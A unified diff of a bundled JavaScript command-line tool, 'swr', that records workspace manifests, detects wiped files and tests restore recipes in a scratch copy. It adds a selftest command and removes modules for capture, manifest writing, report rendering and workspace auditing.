+ * an entry resolves its path without following a symlink in any component; an entry behind one
+ * fails without running.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+async function selftest(live, opts) {
+    const selected = selectEntries(live.body.entries, opts.only).filter(e => recipesOf(e).length > 0 && e.tier <= (opts.maxTier ?? 4));
+    if (selected.length === 0 && !opts.allowEmpty)
+        throw new SwrError('selftest: no entry with a restore recipe matches the selection (pass --allow-empty to accept that)', EXIT.UNREPAIRABLE);
+    const gate = await decide(gateInput(live), opts.policy);
+    if (!gate.allowed)
+        throw new SwrError(`selftest: refusing to run recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
+    const scratch = makeOwnedTemp(opts.tmpDir, 'swr-selftest');
     try {
-        for (const p of pending)
-            out.push(await p);
+        const ws = path.join(scratch, 'workspace');
+        const home = path.join(scratch, 'home');
+        const leftOut = copyWithoutOutsideLinks(live.workspace, ws);
+        fs.mkdirSync(home);
+        const m = { ...live, workspace: fs.realpathSync(ws) };
+        const results = [];
+        const round = roundRunner(m, home, gate, opts);
+        for (const e of planOrder(selected)) {
+            if (opts.fromScratch) {
+                try {
+                    fs.rmSync(resolveNoFollow(m.workspace, e.path), { recursive: true, force: true });
+                }
+                catch (err) {
+                    if (!(err instanceof SymlinkRefusal))
+                        throw err;
+                    results.push({ id: e.id, passed: false, runs: [`not run: ${err.message}`] });
+                    continue;
+                }
+            }
+            const runs = [await round(e, 1), await round(e, 2)];
+            results.push({ id: e.id, passed: runs.every(r => r.ok), runs: runs.map(r => r.line) });
+        }
+        return { kind: 'selftest', gate, leftOut, results, passed: results.every(r => r.passed) };
     }
     finally {
-        limit.clearQueue();
-    }
-    return out;
-}
-/** Tries at capturing a file or tree that keeps changing while it is read, before refusing. */
-const ATTEMPTS = 3;
-/** What must not move while a file is hashed: a hash of no single state can never match. */
-function sameState(a, b) {
-    return (a !== undefined &&
-        b !== undefined &&
-        a.ino === b.ino &&
-        a.size === b.size &&
-        a.mtimeNs === b.mtimeNs &&
-        a.ctimeNs === b.ctimeNs);
-}
-function changedWhileRead(shown, before, after) {
-    const sizes = after === undefined ? 'then vanished' : `size ${before} -> ${after}`;
-    return new UsageError(`${shown}: cannot add: changed while it was read (${sizes}, ${ATTEMPTS} tries); add it once nothing writes to it`);
-}
-/**
- * Hash a file with its state read before and after: a file that grows or is rewritten meanwhile
- * is hashed again, and refused when it never holds still.
- */
-async function steadily(shown, abs, hash) {
-    let before = fs.lstatSync(abs, { bigint: true });
-    let after;
-    for (let attempt = 1;; attempt++) {
-        const r = await hash();
-        after = fs.lstatSync(abs, { bigint: true, throwIfNoEntry: false });
-        if (sameState(before, after) && BigInt(r.size) === before.size)
-            return r;
-        if (attempt === ATTEMPTS || !after)
-            throw changedWhileRead(shown, before.size, after?.size);
-        before = after;
+        fs.rmSync(scratch, { recursive: true, force: true });
     }
 }
-function defaultTier(kind, rel, mode) {
-    if (kind === 'blob')
-        return 3;
-    if (kind === 'tree')
-        return underVolatileDir(rel) ? 4 : 2;
-    if (kind === 'link')
-        return 1;
-    return (mode & 0o111) !== 0 ? 1 : 2;
-}
-async function captureTree(root, req, common, pool, exclude) {
-    const ignore = req.ignore ?? [];
-    let walk;
-    let extras;
-    for (let attempt = 1;; attempt++) {
-        walk = walkTree(root, ignore, exclude);
-        if (walk.unreadable.length > 0) {
-            const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
-            throw new UsageError(`${req.path}: cannot read ${shown.join(', ')}`);
-        }
-        extras = linkTargets(root, walk.records);
-        const moved = await hashTreeFiles(root, req.path, walk.records, extras, pool);
-        if (!moved)
-            break;
-        if (attempt === ATTEMPTS)
-            throw changedWhileRead(`${req.path}/${shownName(moved.rel)}`, ...moved.sizes);
-    }
-    // Kept apart from `extras`: the content digest's lines hold nothing for a special file.
-    const kinds = specialKinds(root, walk.records);
-    const special = specialDigest(walk.records, kinds);
-    const records = walk.records.map((r, i) => ({
-        rel: r.rel,
-        type: r.type,
-        mode: r.mode,
-        size: r.size,
-        extra: extras[i] ?? kinds[i]
+/** The selected entries in the order a repair would restore them (tiers, then dependencies). */
+function planOrder(selected) {
+    const missing = selected.map(e => ({
+        id: e.id,
+        kind: e.kind,
+        path: e.path,
+        tier: e.tier,
+        status: 'MISSING',
+        reason: 'selftest',
+        detail: 'removed for selftest',
+        recorded: {},
+        found: {},
+        cached: false
     }));
-    const index = encodeIndex(records);
-    const sentinels = req.sentinels ??
-        pickSentinels(walk.records.filter(r => r.type === 'f' && r.size > 0).map(r => r.rel));
-    for (const s of sentinels) {
-        const loc = locateInside(root, s);
-        if (loc.state !== 'present')
-            throw new UsageError(`--sentinel ${s}: not found in ${req.path}`);
-        if (loc.st.isFile() && loc.st.size === 0n)
-            throw new UsageError(`--sentinel ${s}: is empty in ${req.path}`);
-    }
-    const entry = {
-        ...common,
-        kind: 'tree',
-        ignore,
-        expect: {
-            sentinels,
-            min_files: req.minFiles ?? walk.files,
-            max_files: req.maxFiles ?? walk.files,
-            files: walk.files,
-            meta_digest: metaDigestOf(walk.records),
-            content_digest: contentDigest(walk.records, extras),
-            ...(special !== undefined ? { special_digest: special } : {}),
-            index: indexRef(index, records.length)
-        }
-    };
-    return { entry, index };
+    const byId = new Map(selected.map(e => [e.id, e]));
+    return planSteps(planRepair(selected, missing)).flatMap(s => byId.get(s.id) ?? []);
 }
-/**
- * Hash every file of a walk into `extras`; the first file whose state moved since the walk saw it
- * (a hash of no single state) is returned instead of being trusted.
- */
-async function hashTreeFiles(root, shown, records, extras, pool) {
-    const jobs = [];
-    const at = [];
-    records.forEach((r, i) => {
-        if (r.type === 'f') {
-            jobs.push({ abs: path.join(root, r.rel), how: 'stamped', cost: r.size });
-            at.push(i);
+/** One run of an entry's first recipe in the scratch copy, and the entry verified after it. */
+function roundRunner(m, home, gate, opts) {
+    const verify = reverifier(m, { stateDir: opts.stateDir, nativeWalk: opts.nativeWalk });
+    return async (e, round) => {
+        const timeoutMs = (opts.timeoutS ?? e.timeout_s ?? RECIPE_TIMEOUT_S) * 1000;
+        const r = await runSignedCommand({
+            entry: e,
+            command: recipesOf(e)[0] ?? 'false',
+            shell: m.body.shell,
+            cwd: m.workspace,
+            timeoutMs,
+            setEnv: { HOME: home }
+        }, { gate, callerEnv: opts.callerEnv, secretScan: await loadSecretScan(), abort: opts.abort });
+        const [after] = await verify([e]);
+        const ok = r.exitCode === 0 && after?.status === 'OK';
+        return {
+            ok,
+            line: `run ${round}: ${describeResult(r, timeoutMs)}, entry ${after?.status ?? '?'}${ok ? '' : `: ${escapeText(after?.detail ?? '')}`}`
+        };
+    };
+}
+/** Copy the workspace, leaving out symlinks that may lead outside it (returned). */
+function copyWithoutOutsideLinks(from, to) {
+    const root = fs.realpathSync(from);
+    const leftOut = [];
+    fs.cpSync(root, to, {
+        recursive: true,
+        verbatimSymlinks: true,
+        filter: src => {
+            const st = fs.lstatSync(src);
+            if (!st.isSymbolicLink() || linkStaysInside(root, src, fs.readlinkSync(src)))
+                return true;
+            leftOut.push(relativeInside(root, src) ?? src);
+            return false;
         }
     });
-    const results = await hashAll(jobs, pool);
-    for (let k = 0; k < results.length; k++) {
-        const res = results[k];
-        const r = records[at[k]];
-        if ('error' in res)
-            throw new UsageError(`${shown}/${shownName(r.rel)}: cannot read (${res.error})`);
-        const now = res.after;
-        const then = { ino: r.ino, size: BigInt(r.size), mtimeNs: r.mtimeNs, ctimeNs: r.ctimeNs };
-        if (!sameState(then, now) || res.size !== r.size)
-            return { rel: r.rel, sizes: [then.size, now?.size] };
-        extras[at[k]] = res.sha256;
-    }
-    return undefined;
-}
-/** Up to three sentinels: known markers at the root, then the deepest non-empty file. */
-function pickSentinels(files) {
-    // A sentinel is a manifest path: names that are not (not UTF-8, not NFC) cannot be one.
-    files = files.filter(f => innerPathProblem(f) === undefined);
-    const set = new Set(files);
-    const picked = MARKERS.filter(m => set.has(m)).slice(0, 2);
-    const deepest = [...files]
-        .filter(f => !f.split('/').some(s => VOLATILE_DIRS.has(s)))
-        .sort((a, b) => b.split('/').length - a.split('/').length || (a < b ? -1 : 1))[0];
-    if (deepest && !picked.includes(deepest))
-        picked.push(deepest);
-    return picked;
+    return leftOut;
 }
 
 ;// CONCATENATED MODULE: ./src/core/manifest/import-v2.ts
@@ -9421,8 +9713,8 @@ function import_v2_int(v) {
 }
 function convertEntry(raw, workspace, where, notes) {
     const id = str(raw.id);
-    if (id === undefined || !paths_ENTRY_ID.test(id)) {
-        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${paths_ENTRY_ID.source}`;
+    if (id === undefined || !ENTRY_ID.test(id)) {
+        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${ENTRY_ID.source}`;
     }
     const named = `${where} ("${id}")`;
     const rawPath = str(raw.path);
@@ -9898,7 +10190,7 @@ const CODE_FIELD = [
 function badCharacter(s, code) {
     for (let i = 0; i < s.length; i++) {
         const c = s.charCodeAt(i);
-        if (code ? c === 0 : escape_isControl(c))
+        if (code ? c === 0 : controls_isControl(c))
             return i;
     }
     return -1;
@@ -10040,7 +10332,7 @@ function kindProblems(e) {
         return [];
     const out = [];
     e.expect.sentinels.forEach((s, k) => {
-        const problem = paths_innerPathProblem(s);
+        const problem = innerPathProblem(s);
         if (problem)
             out.push({ field: `expect/sentinels/${k}`, text: problem });
     });
@@ -10105,13 +10397,13 @@ function isRealDate(v) {
 
 
 /** Read and judge the manifest at `file`; throws ManifestError naming every problem. */
-function loadManifest(file, opts = {}) {
+function load_loadManifest(file, opts = {}) {
     const abs = external_node_path_default().resolve(opts.cwd ?? process.cwd(), file);
     const shown = external_node_path_default().relative(opts.cwd ?? process.cwd(), abs) || abs;
     const text = readBounded(abs, shown);
     const parsed = load_parseManifestText(text, shown);
     const { doc, format, notes } = parsed;
-    const workspace = resolveWorkspace(abs, doc.body.workspace, opts);
+    const workspace = load_resolveWorkspace(abs, doc.body.workspace, opts);
     return {
         file: abs,
         format,
@@ -10208,7 +10500,7 @@ function readBounded(abs, shown) {
     }
 }
 /** The workspace: `--workspace`, else the manifest's (relative to the manifest's directory). */
-function resolveWorkspace(manifestFile, declared, opts) {
+function load_resolveWorkspace(manifestFile, declared, opts) {
     const base = opts.workspace
         ? external_node_path_default().resolve(opts.cwd ?? process.cwd(), opts.workspace)
         : external_node_path_default().resolve(external_node_path_default().dirname(manifestFile), declared);
@@ -10223,3928 +10515,6 @@ function resolveWorkspace(manifestFile, declared, opts) {
         throw new errors_ManifestError(`workspace "/" is refused: describe a directory, not the whole machine`);
     }
     return real;
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/locate.ts
-/**
- * Where the manifest lives: an explicit flag, then SWR_MANIFEST, then the nearest
- * `.swr/manifest.json` walking up from the current directory (as git finds `.git`), then
- * `~/.swr/manifest.json` describing $HOME (the agent-sandbox case).
- */
-
-
-const MANIFEST_DIR = '.swr';
-const MANIFEST_NAME = 'manifest.json';
-/** The manifest a command should read; `how: 'new'` when none exists (where `add` would create one). */
-function locateManifest(input) {
-    if (input.flag)
-        return { file: path.resolve(input.cwd, input.flag), how: 'flag' };
-    if (input.env)
-        return { file: path.resolve(input.cwd, input.env), how: 'env' };
-    for (let dir = path.resolve(input.cwd);; dir = path.dirname(dir)) {
-        const candidate = path.join(dir, MANIFEST_DIR, MANIFEST_NAME);
-        if (fs.existsSync(candidate))
-            return { file: candidate, how: 'found' };
-        if (dir === path.dirname(dir))
-            break;
-    }
-    const home = path.join(input.home, MANIFEST_DIR, MANIFEST_NAME);
-    if (fs.existsSync(home))
-        return { file: home, how: 'home' };
-    return { file: path.join(path.resolve(input.cwd), MANIFEST_DIR, MANIFEST_NAME), how: 'new' };
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/write.ts
-/**
- * Creating and saving manifests. The body is written with a fixed key order so diffs stay small;
- * the file is replaced atomically, and a new manifest never overwrites one that appeared meanwhile.
- */
-
-
-
-
-
-
-
-const SCHEMA_URL = 'urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json';
-/** The workspace as the manifest records it: relative when the manifest sits inside it. */
-function spellWorkspace(manifestFile, workspace) {
-    const dir = path.dirname(path.resolve(manifestFile));
-    if (isInside(workspace, dir))
-        return path.relative(dir, workspace) || '.';
-    return workspace;
-}
-function newDocument(manifestFile, workspace, now) {
-    return {
-        $schema: SCHEMA_URL,
-        body: {
-            schema: 3,
-            version: 1,
-            workspace: spellWorkspace(manifestFile, workspace),
-            created: now.toISOString().replace(/\.\d+Z$/, 'Z'),
-            entries: []
-        },
-        signatures: []
-    };
-}
-const write_ENTRY_KEYS = (/* unused pure expression or super */ null && ([
-    'id',
-    'kind',
-    'path',
-    'tier',
-    'needs',
-    'restore',
-    'timeout_s',
-    'env',
-    'secret_env',
-    'smoke',
-    'smoke_timeout_s',
-    'note',
-    'ignore',
-    'expect',
-    'escrow'
-]));
-function orderEntry(e) {
-    const src = e;
-    const out = {};
-    for (const k of write_ENTRY_KEYS)
-        if (src[k] !== undefined)
-            out[k] = src[k];
-    // Fields without a place in the order keep theirs after the known ones: never drop data.
-    for (const [k, v] of Object.entries(src))
-        if (!(k in out) && v !== undefined)
-            out[k] = v;
-    return out;
-}
-function write_serializeDocument(doc) {
-    const body = {
-        schema: 3,
-        version: doc.body.version,
-        workspace: doc.body.workspace,
-        created: doc.body.created,
-        ...(doc.body.expires !== undefined ? { expires: doc.body.expires } : {}),
-        ...(doc.body.scope !== undefined ? { scope: doc.body.scope } : {}),
-        ...(doc.body.shell !== undefined ? { shell: doc.body.shell } : {}),
-        entries: doc.body.entries.map(orderEntry)
-    };
-    return (JSON.stringify({ $schema: doc.$schema ?? SCHEMA_URL, body, signatures: doc.signatures }, null, 2) + '\n');
-}
-/**
- * Refuse a document the loader would refuse (schema, ids, needs, cycles, bounds): an edit must
- * never write, let alone sign, a manifest every later command rejects. One line, exit 4.
- */
-function assertWritable(file, text) {
-    const problems = manifestProblems(JSON.parse(text), { lines: new Map(), file: path.basename(file) }, text);
-    if (problems.length === 0)
-        return;
-    const more = problems.length > 1 ? ` (and ${problems.length - 1} more)` : '';
-    throw new ManifestError(`${problems[0]}${more}; nothing was written`, problems);
-}
-function saveManifest(file, doc, opts = {}) {
-    const text = write_serializeDocument(doc);
-    assertWritable(file, text);
-    if (!opts.create)
-        assertUnchangedSinceRead(file);
-    fs.mkdirSync(path.dirname(file), { recursive: true });
-    for (const [p, bytes] of opts.sidecars ?? []) {
-        fs.mkdirSync(path.dirname(p), { recursive: true });
-        writeFileAtomic(p, bytes);
-    }
-    const bytes = Buffer.from(text, 'utf8');
-    writeFileAtomic(file, bytes, { exclusive: opts.create === true });
-    noteManifestBytes(file, bytes);
-}
-
-// EXTERNAL MODULE: external "node:util"
-var external_node_util_ = __webpack_require__(7975);
-;// CONCATENATED MODULE: ./src/core/report/text.ts
-/**
- * Human output of a check: one aligned, greppable line per entry (status first), the files a tree
- * lost or gained, a summary, the wipe signature and the command that repairs the damage. Colour is
- * the caller's choice (TTY and NO_COLOR are decided in the shell).
- */
-
-
-const COLORS = {
-    OK: 'green',
-    MISSING: 'red',
-    CORRUPT: 'red',
-    STRIPPED: 'yellow',
-    EMPTY: 'red',
-    BROKENLNK: 'red',
-    TYPE: 'red',
-    SKIPPED: 'gray',
-    SMOKEFAIL: 'red'
-};
-function paint(on, style, s) {
-    // Unvalidated: styleText would otherwise judge process.stdout and the environment itself.
-    return on ? (0,external_node_util_.styleText)(style, s, { validateStream: false }) : s;
-}
-function pad(s, n) {
-    return s.length >= n ? s : s + ' '.repeat(n - s.length);
-}
-/** One line per finding: `STATUS   id   path   detail`. */
-function findingLines(findings, opts) {
-    const idW = Math.min(32, Math.max(2, ...findings.map(f => escape_escapeText(f.id).length)));
-    const pathW = Math.min(40, Math.max(4, ...findings.map(f => escape_escapeText(f.path).length)));
-    const out = [];
-    for (const f of findings) {
-        const status = paint(opts.color, COLORS[f.status], pad(f.status, 9));
-        const path = escape_escapeText(f.path);
-        const p = path.length > pathW ? '…' + path.slice(-(pathW - 1)) : path;
-        out.push(`  ${status} ${pad(escape_escapeText(f.id), idW)}  ${pad(p, pathW)}  ${escape_escapeText(f.detail)}`);
-        if (f.files) {
-            const d = f.files;
-            const more = (shown, total) => total > shown ? [`      ... ${total - shown} more`] : [];
-            for (const m of d.missing.slice(0, 5))
-                out.push(`      - ${escape_escapeText(m)}`);
-            out.push(...more(Math.min(5, d.missing.length), d.counts.missing));
-            for (const x of d.extra.slice(0, 5))
-                out.push(`      + ${escape_escapeText(x)}`);
-            out.push(...more(Math.min(5, d.extra.length), d.counts.extra));
-            for (const c of d.changed.slice(0, 5))
-                out.push(`      ~ ${escape_escapeText(c.path)} (${escape_escapeText(c.what)})`);
-            out.push(...more(Math.min(5, d.changed.length), d.counts.changed));
-        }
-    }
-    return out;
-}
-function renderCheck(r, opts) {
-    const lines = [];
-    const shown = opts.all ? r.results : r.results.filter(f => f.status !== 'OK');
-    lines.push(...findingLines(shown, opts));
-    const s = r.summary;
-    const verdict = s.damaged === 0
-        ? paint(opts.color, 'green', `${s.ok}/${s.entries} healthy`)
-        : paint(opts.color, 'red', `${s.ok}/${s.entries} healthy, ${s.damaged} damaged`);
-    lines.push(`${verdict}  (${r.timing.ms} ms${r.results.some(f => f.cached) ? ', cache used' : ''})`);
-    if (s.damaged > 0) {
-        lines.push(`wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}: ${e(r.diagnosis.cause)}`);
-        const ids = r.results.filter(f => f.status !== 'OK').map(f => e(f.id));
-        lines.push(`why: swr why${ids.length <= 3 ? ` --only ${ids.join(' ')}` : ''}`);
-        lines.push(...fixLines(r));
-    }
-    for (const n of r.notes)
-        lines.push(paint(opts.color, 'gray', `note: ${e(n)}`));
-    return lines.join('\n') + '\n';
-}
-/**
- * The summary's fix: `swr restore` only for root causes that have a way back (their consequences
- * heal with them), and the entries that have none named as such instead of sent to a dead end.
- */
-function fixLines(r) {
-    const roots = r.diagnosis.advice.filter(a => a.because === undefined);
-    const can = roots.filter(a => a.restorable !== false).map(a => e(a.id));
-    const cannot = roots.filter(a => a.restorable === false).map(a => e(a.id));
-    const out = [];
-    if (can.length > 0)
-        out.push(`fix: swr restore${can.length <= 3 ? ` --only ${can.join(' ')}` : ''}   (or: swr doctor)`);
-    if (cannot.length > 0) {
-        const list = cannot.length <= 5 ? cannot.join(', ') : `${cannot.slice(0, 5).join(', ')}, ...`;
-        out.push(`no way back recorded for ${cannot.length}: ${list}  (swr why says what to do)`);
-    }
-    return out;
-}
-function renderWhy(r, opts, notes, history = new Map()) {
-    const damaged = r.results.filter(f => f.status !== 'OK');
-    if (damaged.length === 0)
-        return (paint(opts.color, 'green', `${r.summary.entries}/${r.summary.entries} healthy: nothing to explain`) + '\n');
-    const lines = [
-        `wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}`,
-        `  ${e(r.diagnosis.cause)}`,
-        ''
-    ];
-    const adviceById = new Map(r.diagnosis.advice.map(a => [a.id, a]));
-    for (const f of damaged) {
-        const advice = adviceById.get(f.id);
-        lines.push(`${paint(opts.color, COLORS[f.status], f.status)} ${e(f.id)}  (${f.kind}, tier ${f.tier}, ${e(f.path)})`);
-        lines.push(`  found:    ${e(f.detail)}`);
-        lines.push(`  recorded: ${show(f.recorded)}`);
-        lines.push(`  now:      ${show(f.found)}`);
-        if (advice) {
-            lines.push(`  cause:    ${e(advice.cause)}`);
-            if (advice.risk)
-                lines.push(`  risk:     ${e(advice.risk)}`);
-            if (advice.affects)
-                lines.push(`  affects:  ${advice.affects.map(id => e(id)).join(', ')}`);
-            lines.push(`  fix:      ${e(advice.fix)}`);
-        }
-        const note = notes.get(f.id);
-        if (note)
-            lines.push(`  note:     ${e(note)}`);
-        const past = history.get(f.id);
-        if (past)
-            lines.push(`  history:  ${e(past)}`);
-        lines.push('');
-    }
-    return lines.join('\n');
-}
-function show(v) {
-    return Object.entries(v)
-        .map(([k, x]) => `${k}=${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : e(String(x))}`)
-        .join(' ');
-}
-/** The plan, wave by wave, with the reason for each step. */
-function renderPlan(waves, opts) {
-    if (waves.length === 0)
-        return 'nothing to repair\n';
-    const lines = [];
-    let n = 0;
-    const total = waves.reduce((s, w) => s + w.length, 0);
-    waves.forEach((wave, w) => {
-        for (const s of wave) {
-            n++;
-            const src = s.source === 'none' ? paint(opts.color, 'red', 'no recipe') : escape_escapeText(s.source);
-            const after = s.after.length > 0 ? ` after ${s.after.map(x => escape_escapeText(x)).join(', ')}` : '';
-            const par = wave.length > 1 ? ` (wave ${w + 1}, parallel)` : '';
-            lines.push(`  [${n}/${total}] tier ${s.tier} ${escape_escapeText(s.id)} <- ${src}${after}${par}`);
-            lines.push(`        ${escape_escapeText(s.reason)}`);
-        }
-    });
-    return lines.join('\n') + '\n';
-}
-const OUTCOME_STYLE = {
-    repaired: 'green',
-    'already-repaired': 'green',
-    'still-damaged': 'red',
-    failed: 'red',
-    skipped: 'yellow',
-    unrepairable: 'red',
-    interrupted: 'yellow'
-};
-/** Entries a repair damaged on the side, each with the recipes that ran before it was found. */
-function renderCollateral(harmed, opts) {
-    return harmed
-        .map(c => {
-        const by = c.after.length > 0 ? `after the recipe of ${c.after.map(id => e(id)).join(', ')} ran` : '';
-        return `${paint(opts.color, 'red', 'collateral')} ${e(c.id)} is ${c.status} ${by}: ${e(c.detail)}\n`;
-    })
-        .join('');
-}
-function renderStep(r, opts) {
-    // A step's detail can quote a cache member's name or a recipe's words: escaped like any name.
-    const line = `  ${paint(opts.color, OUTCOME_STYLE[r.outcome], r.outcome.padEnd(14))} ${escape_escapeText(r.id)}  ${escape_escapeText(r.detail)}\n`;
-    return line + quarantineLine(r.quarantine);
-}
-function quarantineLine(q) {
-    if (!q)
-        return '';
-    if ('skipped' in q)
-        return `      quarantine: ${escape_escapeText(q.skipped)}\n`;
-    const pruned = q.pruned
-        ? `; pruned ${q.pruned.removed} older cop${q.pruned.removed === 1 ? 'y' : 'ies'} (${q.pruned.bytes} bytes)`
-        : '';
-    return `      quarantine: kept ${q.bytes} bytes in ${q.copied}${pruned}\n`;
-}
-
-;// CONCATENATED MODULE: ./src/core/author/scan.ts
-/**
- * What every authoring scan shares: the names no scan enters (VCS metadata, swr's own directory),
- * sorted directory listings that never throw, a bound on how much of a huge workspace one scan
- * may look at, and ignore rules that name exactly one path.
- */
-
-/** Version-control metadata: changes on every fetch, restored by the VCS, never worth an entry. */
-const scan_VCS_DIRS = new Set(['.git', '.hg', '.svn']);
-/** swr's own directory beside a manifest. */
-const scan_SWR_DIR = '.swr';
-/** A $HOME workspace can hold millions of files: one scan looks at no more than this many. */
-const MAX_SCAN = 200_000;
-function scan_isMetaName(name) {
-    return scan_VCS_DIRS.has(name) || name === scan_SWR_DIR;
-}
-/** Directory entries in the tree walk's order (JavaScript string order); [] when unreadable. */
-function scan_listDir(abs) {
-    try {
-        return fs.readdirSync(abs).sort();
-    }
-    catch {
-        return [];
-    }
-}
-function scan_lstatOf(abs) {
-    try {
-        return fs.lstatSync(abs);
-    }
-    catch {
-        return undefined;
-    }
-}
-function scan_isExecutable(st) {
-    return (st.mode & 0o111) !== 0;
-}
-function scan_scanBudget(limit = MAX_SCAN) {
-    let seen = 0;
-    return {
-        take: () => ++seen <= limit,
-        get exhausted() {
-            return seen > limit;
-        }
-    };
-}
-/**
- * An ignore rule matching exactly `inner` (a path relative to the tree): anchored with a leading
- * slash, because a bare name would match at any depth, and with glob characters escaped.
- */
-function scan_literalRule(inner) {
-    return '/' + inner.replace(/[\\*?[\]{}()!+@]/g, c => `\\${c}`);
-}
-/** `rel` joined below `dir` in manifest spelling ("" is the workspace root). */
-function scan_joinRel(dir, name) {
-    return dir ? `${dir}/${name}` : name;
-}
-
-;// CONCATENATED MODULE: ./src/core/author/coverage.ts
-/**
- * Which workspace paths a manifest already tracks: each entry's own path, and everything inside a
- * tracked tree that the tree's ignore rules do not leave out (read exactly as the tree walk reads
- * them, so "tracked" here means "judged by some entry's check").
- */
-
-
-
-/** `rel` relative to the tree at `root`, or undefined when it is not strictly inside. */
-function innerOf(root, rel) {
-    if (root === '.')
-        return rel === '.' ? undefined : rel;
-    return rel.startsWith(root + '/') ? rel.slice(root.length + 1) : undefined;
-}
-/** The walk skips a path when any of its prefixes is ignored. */
-function ignoredInside(t, inner) {
-    const segs = inner.split('/');
-    return segs.some((name, i) => t.ignored(segs.slice(0, i + 1).join('/'), name, i < segs.length - 1));
-}
-function coverage_coverageOf(entries) {
-    const exact = new Map(entries.map(e => [e.path, e.id]));
-    const trees = entries.flatMap(e => e.kind === 'tree'
-        ? [
-            {
-                id: e.id,
-                path: e.path,
-                ignored: ignoreMatcher(e.ignore),
-                custom: e.ignore.some(r => !VOLATILE_DIRS.has(r) && !isMetaName(r))
-            }
-        ]
-        : []);
-    const covering = (rel) => trees.filter(t => {
-        const inner = innerOf(t.path, rel);
-        return inner !== undefined && !ignoredInside(t, inner);
-    });
-    return {
-        trackedBy(rel) {
-            const id = exact.get(rel);
-            if (id !== undefined)
-                return { id, exact: true };
-            const tree = covering(rel)[0];
-            return tree ? { id: tree.id, exact: false } : undefined;
-        },
-        trackedBelow(rel) {
-            return entries.flatMap(e => {
-                const inner = innerOf(rel, e.path);
-                return inner === undefined ? [] : [inner];
-            });
-        },
-        mayHideUntracked(rel) {
-            const own = trees.find(t => t.path === rel);
-            return [...(own ? [own] : []), ...covering(rel)].some(t => t.custom);
-        }
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/author/audit.ts
-
-
-
-
-
-function auditWorkspace(workspace, entries, exclude) {
-    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
-    visit(scan, workspace, '');
-    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
-    return { rows: scan.rows, truncated: scan.budget.exhausted };
-}
-function skipped(scan, name, abs) {
-    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
-}
-function visit(scan, absDir, relDir) {
-    for (const name of listDir(absDir)) {
-        if (!scan.budget.take())
-            return;
-        const abs = path.join(absDir, name);
-        if (skipped(scan, name, abs))
-            continue;
-        const rel = joinRel(relDir, name);
-        const st = lstatOf(abs);
-        if (!st)
-            continue;
-        if (scan.cov.trackedBy(rel)) {
-            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
-                visit(scan, abs, rel);
-        }
-        else if (st.isDirectory()) {
-            if (scan.cov.trackedBelow(rel).length > 0)
-                visit(scan, abs, rel);
-            else
-                scan.rows.push(...treeRows(scan, abs, rel));
-        }
-        else {
-            const row = leafRow(rel, st);
-            if (row)
-                scan.rows.push(row);
-        }
-    }
-}
-function leafRow(rel, st) {
-    const row = (kind, bytes) => ({
-        kind,
-        path: rel,
-        bytes,
-        files: 1,
-        ignore: []
-    });
-    if (st.isSymbolicLink())
-        return row('link', 0);
-    if (!st.isFile())
-        return undefined;
-    if (st.size >= BLOB_THRESHOLD)
-        return row('blob', st.size);
-    return isExecutable(st) ? row('file', st.size) : undefined;
-}
-/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
-function treeRows(scan, absRoot, rel) {
-    const blobs = [];
-    const names = new Set();
-    let files = 0;
-    let bytes = 0;
-    const walk = (absDir, inner) => {
-        for (const name of listDir(absDir)) {
-            if (!scan.budget.take())
-                return;
-            const abs = path.join(absDir, name);
-            if (skipped(scan, name, abs)) {
-                if (!scan.exclude.has(abs))
-                    names.add(name);
-                continue;
-            }
-            const st = lstatOf(abs);
-            const innerRel = joinRel(inner, name);
-            if (!st)
-                continue;
-            if (st.isDirectory())
-                walk(abs, innerRel);
-            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
-                blobs.push({
-                    kind: 'blob',
-                    path: `${rel}/${innerRel}`,
-                    bytes: st.size,
-                    files: 1,
-                    ignore: []
-                });
-            }
-            else {
-                files++;
-                bytes += st.isFile() ? st.size : 0;
-            }
-        }
-    };
-    walk(absRoot, '');
-    const ignore = [
-        ...[...names].sort(),
-        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
-    ];
-    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
-}
-
-;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
-/**
- * `autopilot`: bring a manifest up to date with init's rules without touching what is already
- * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
- * markers found in it; executable scripts at the top level become `file` entries; large files
- * anywhere outside volatile directories become `blob` entries. Volatile directories
- * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
- * again adds nothing: everything it would add is then tracked.
- */
-
-
-
-
-
-
-/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
-const TREE_MARKERS = (/* unused pure expression or super */ null && (PROJECT_MARKERS));
-const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
-function planAutopilot(workspace, entries, exclude) {
-    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
-    const blobs = untrackedBlobs(ctx);
-    const trees = [];
-    const scripts = [];
-    const skipped = [];
-    for (const name of listDir(workspace)) {
-        const abs = path.join(workspace, name);
-        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
-            continue;
-        if (ctx.cov.trackedBy(name))
-            continue;
-        const st = lstatOf(abs);
-        if (st?.isDirectory() && !name.startsWith('.')) {
